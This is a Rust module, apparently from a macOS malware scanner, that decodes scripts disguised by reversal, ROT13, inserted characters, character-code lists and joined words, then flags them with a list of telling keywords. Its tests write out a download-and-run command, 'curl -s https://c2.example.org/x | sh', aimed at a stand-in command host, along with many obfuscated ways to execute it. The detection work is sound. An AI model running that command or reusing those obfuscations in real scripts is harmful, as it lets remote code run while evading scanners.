//! Texts that are written backwards, with other letters in place of their own or between them, in parts, or as numbers that
//! are computed with. How is tried: what comes out counts only when it says what a script does.

use std::ops::Range;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;

use super::encoded::MAX_BYTES;
use super::literal::literal;
use super::unpacked::Unpacked;

/// What no text says by chance that was put together in a wrong way.
const TELLING: [&str; 16] = [
    "http://",
    "https://",
    "curl ",
    "osascript",
    "do shell script",
    "doshellscript",
    "display dialog",
    "/bin/",
    "/tmp/",
    "/users/",
    "launchctl",
    "base64",
    "eval(",
    "python",
    "objc.import",
    "nsurl",
];
/// Literals of a text that are tried, and lists of numbers.
const MAX_LITERALS: usize = 256;
const MAX_LISTS: usize = 16;
/// Numbers of a list.
const MAX_NUMBERS: usize = 2048;
/// By how much the numbers of a list may be moved.
const MAX_SHIFT: i64 = 128;

/// The texts that are disguised in this one.
pub(super) fn texts(text: &str) -> Vec<Unpacked> {
    let found = [of_literals(text), of_numbers(text), of_lists(text)].concat();
    found.into_iter().filter(|unpacked| is_telling(&unpacked.text)).collect()
}

fn is_telling(text: &str) -> bool {
    static WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
        let mut builder = AhoCorasick::builder();
        builder.ascii_case_insensitive(true).build(TELLING).expect("a few short words")
    });
    WORDS.is_match(text)
}

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the pattern is constant, and a test uses it")
}

/// How the literals of a text may be disguised, by what it does with them.
enum Way {
    Backwards,
    /// Each letter is the thirteenth behind its own.
    Rot13,
    /// This is between its letters.
    Without(String),
}

impl Way {
    fn all(text: &str) -> Vec<Way> {
        static BACKWARDS: LazyLock<Regex> = LazyLock::new(|| regex(r"(?i)\breversed?\b|\brev\b|\[::-1\]"));
        static ROT13: LazyLock<Regex> = LazyLock::new(|| regex(r"(?i)n-za-m|rot_?13"));
        static WITHOUT: LazyLock<Regex> = LazyLock::new(|| {
            let script = r#"replace(?:All)?\(\s*(?:/([^/\s]{1,8})/[gim]+|["']([^"']{1,8})["'])\s*,\s*(?:""|'')|split\(\s*["']([^"']{1,8})["']\s*\)\s*\.join\(\s*(?:""|'')|text item delimiters to \\?"([^"\\]{1,8})\\?""#;
            let shell = r#"\btr\s+-d\s+\\?["']?([^\s"'|;\\]{1,8})|\bsed\s+\\?["']?s/([^/\s]{1,8})//g"#;
            regex(&format!("{script}|{shell}"))
        });
        let mut ways = Vec::new();
        ways.extend(BACKWARDS.is_match(text).then_some(Way::Backwards));
        ways.extend(ROT13.is_match(text).then_some(Way::Rot13));
        let between = WITHOUT.captures_iter(text).take(4).filter_map(|found| found.iter().skip(1).flatten().next());
        ways.extend(between.map(|between| Way::Without(between.as_str().replace('\\', ""))));
        ways
    }

    fn undo(&self, text: &str) -> String {
        match self {
            Way::Backwards => text.chars().rev().collect(),
            Way::Rot13 => text.chars().map(rot13).collect(),
            Way::Without(between) => text.replace(between.as_str(), ""),
        }
    }
}

fn rot13(letter: char) -> char {
    let turned = |first: u8| char::from(first + (letter as u8 - first + 13) % 26);
    match letter {
        'a'..='z' => turned(b'a'),
        'A'..='Z' => turned(b'A'),
        other => other,
    }
}

fn of_literals(text: &str) -> Vec<Unpacked> {
    let ways = Way::all(text);
    if ways.is_empty() {
        return Vec::new();
    }
    let mut found: Vec<(Range<usize>, String)> = Vec::new();
    let places = text.char_indices().filter(|(_, letter)| "\"'`\u{201C}".contains(*letter));
    for (start, quote) in places.take(MAX_LITERALS) {
        let end = text.floor_char_boundary(start + MAX_BYTES);
        let literal = literal(&text[start..end], quote).filter(|(literal, _)| !is_telling(&literal.text));
        let Some((Unpacked { text, .. }, used)) = literal else { continue };
        let undone = ways.iter().map(|way| way.undo(&text)).find(|undone| is_telling(undone));
        let Some(undone) = undone else { continue };
        // Of a literal in another, the inner one is the text.
        found.retain(|(outer, _)| outer.end < start + used);
        found.push((start..start + used, undone));
    }
    found.into_iter().map(|(place, undone)| Unpacked::encoded(undone, place)).collect()
}

/// `[104, 121, 119].map(c => String.fromCharCode(c - 5))`
fn of_numbers(text: &str) -> Vec<Unpacked> {
    static SPELLS: LazyLock<Regex> =
        LazyLock::new(|| regex(r"(?i)\bchr\b|from(?:CharCode|CodePoint)|\bcharacter\s+id\b|ASCII\s+character|\bbytes"));
    static LIST: LazyLock<Regex> = LazyLock::new(|| regex(r"[\[{(]\s*(\d{1,4}(?:\s*,\s*\d{1,4}){7,})\s*[\]})]"));
    if !SPELLS.is_match(text) {
        return Vec::new();
    }
    let lists = LIST.captures_iter(text).take(MAX_LISTS);
    let of_list = |found: regex::Captures<'_>| {
        let numbers: Vec<i64> =
            found[1].split(',').take(MAX_NUMBERS).filter_map(|number| number.trim().parse().ok()).collect();
        Some(Unpacked::encoded(spelled(&numbers)?, found.get_match().range()))
    };
    lists.filter_map(of_list).collect()
}

/// What numbers spell, moved by as little as it takes, or with some bits turned.
fn spelled(numbers: &[i64]) -> Option<String> {
    let letters = |change: &dyn Fn(i64) -> i64| {
        let letter =
            |number: &i64| u8::try_from(change(*number)).ok().map(char::from).filter(|letter| is_printable(*letter));
        numbers.iter().map(letter).collect::<Option<String>>().filter(|text| is_telling(text))
    };
    let moved = (0..=MAX_SHIFT).flat_map(|shift| [shift, -shift]).find_map(|shift| letters(&|number| number + shift));
    moved.or_else(|| (1..=255).find_map(|bits| letters(&|number| number ^ bits)))
}

fn is_printable(letter: char) -> bool {
    letter.is_ascii_graphic() || letter.is_ascii_whitespace()
}

/// `['curl', '-s', u].join(' ')`, `' '.join(['curl', '-s'])`
fn of_lists(text: &str) -> Vec<Unpacked> {
    static JOINED: LazyLock<Regex> = LazyLock::new(|| {
        let list = r#"\[((?:\s*(?:"[^"\\]*"|'[^'\\]*')\s*,?){2,})\s*\]"#;
        let by = r#"(?:"([^"]{0,8})"|'([^']{0,8})')"#;
        regex(&format!(r"{list}\s*\.join\(\s*{by}\s*\)|{by}\.join\(\s*{list}\s*\)"))
    });
    static ITEM: LazyLock<Regex> = LazyLock::new(|| regex(r#""([^"]*)"|'([^']*)'"#));
    let group = |found: &regex::Captures<'_>, groups: &[usize]| {
        groups.iter().find_map(|group| found.get(*group)).map(|part| part.as_str().to_owned()).unwrap_or_default()
    };
    let of_list = |found: regex::Captures<'_>| {
        let (list, by) = (group(&found, &[1, 6]), group(&found, &[2, 3, 4, 5]));
        let items: Vec<String> = ITEM.captures_iter(&list).map(|item| group(&item, &[1, 2])).collect();
        Unpacked::encoded(items.join(&by), found.get_match().range())
    };
    JOINED.captures_iter(text).take(MAX_LISTS).map(of_list).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const COMMAND: &str = "curl -s https://c2.example.org/x | sh";

    #[test]
    fn a_disguised_text_comes_out_as_it_was() {
        let backwards: String = COMMAND.chars().rev().collect();
        let rot13: String = COMMAND.chars().map(super::rot13).collect();
        let between: String = COMMAND.chars().flat_map(|letter| [letter, '#']).collect();
        let numbers = |change: &dyn Fn(i64) -> i64| {
            COMMAND.bytes().map(|byte| change(byte.into()).to_string()).collect::<Vec<_>>().join(", ")
        };
        let words = COMMAND.split(' ').map(|word| format!("'{word}'")).collect::<Vec<_>>().join(", ");
        for text in [
            format!("do shell script \"echo '{backwards}' | rev | sh\""),
            format!("app.doShellScript('{backwards}'.split('').reverse().join(''))"),
            format!("do shell script (reverse of (characters of \"{backwards}\")) as text"),
            format!("exec('{backwards}'[::-1])"),
            format!("do shell script \"tr 'A-Za-z' 'N-ZA-Mn-za-m' <<< '{rot13}' | sh\""),
            format!("import codecs; codecs.decode('{rot13}', 'rot13')"),
            format!("app.doShellScript('{between}'.replace(/#/g, ''))"),
            format!("app.doShellScript('{between}'.split('#').join(''))"),
            format!("do shell script \"echo '{between}' | tr -d '#' | sh\""),
            format!("do shell script \"echo '{between}' | sed 's/#//g' | sh\""),
            format!("set text item delimiters to \"#\"\nset x to text items of \"{between}\""),
            format!("os.system(''.join(map(chr, [{}])))", numbers(&|byte| byte)),
            format!("eval(String.fromCharCode(...[{}]))", numbers(&|byte| byte)),
            format!("repeat with n in {{{}}}\nset s to s & (character id (n - 5))\nend", numbers(&|byte| byte + 5)),
            format!("[{}].map(c => String.fromCharCode(c - 100)).join('')", numbers(&|byte| byte + 100)),
            format!("[{}].map(c => String.fromCharCode(c ^ 90)).join('')", numbers(&|byte| byte ^ 90)),
            format!("app.doShellScript([{words}].join(' '))"),
            format!("os.system(' '.join([{words}]))"),
        ] {
            let found: Vec<String> = texts(&text).into_iter().map(|unpacked| unpacked.text).collect();
            assert_eq!(found, [COMMAND], "{text}");
        }
    }

    #[test]
    fn what_says_nothing_when_it_is_turned_is_no_text_that_is_hidden() {
        for text in [
            "do shell script \"curl -s https://c2.example.org/x | rev\"",
            "set x to reverse of (characters of \"level\")",
            "'https://a.example'.replace(/#/g, '')",
            "[1, 2, 3, 4, 5, 6, 7, 8, 9].map(chr)",
            "['a', 'b'].join(', ')",
            "rev rot13 n-za-m 'abc' \"def",
        ] {
            assert!(texts(text).is_empty(), "{text}: {:?}", texts(text));
        }
    }

    #[test]
    fn any_text_is_tried_in_time() {
        let list = format!("chr [{}] ", vec!["65, 66, 67, 68, 69, 70, 71, 72"; 400].join(","));
        for part in
            [&*list, "rev '", "rot13 \"'`", "replace(/a/g,'') '", "['a','b',", "chr [1,2,3,4,5,6,7,8,", "\u{201C}rev"]
        {
            let count = (1 << 20) / part.len();
            texts(&part.repeat(count));
        }
    }
}
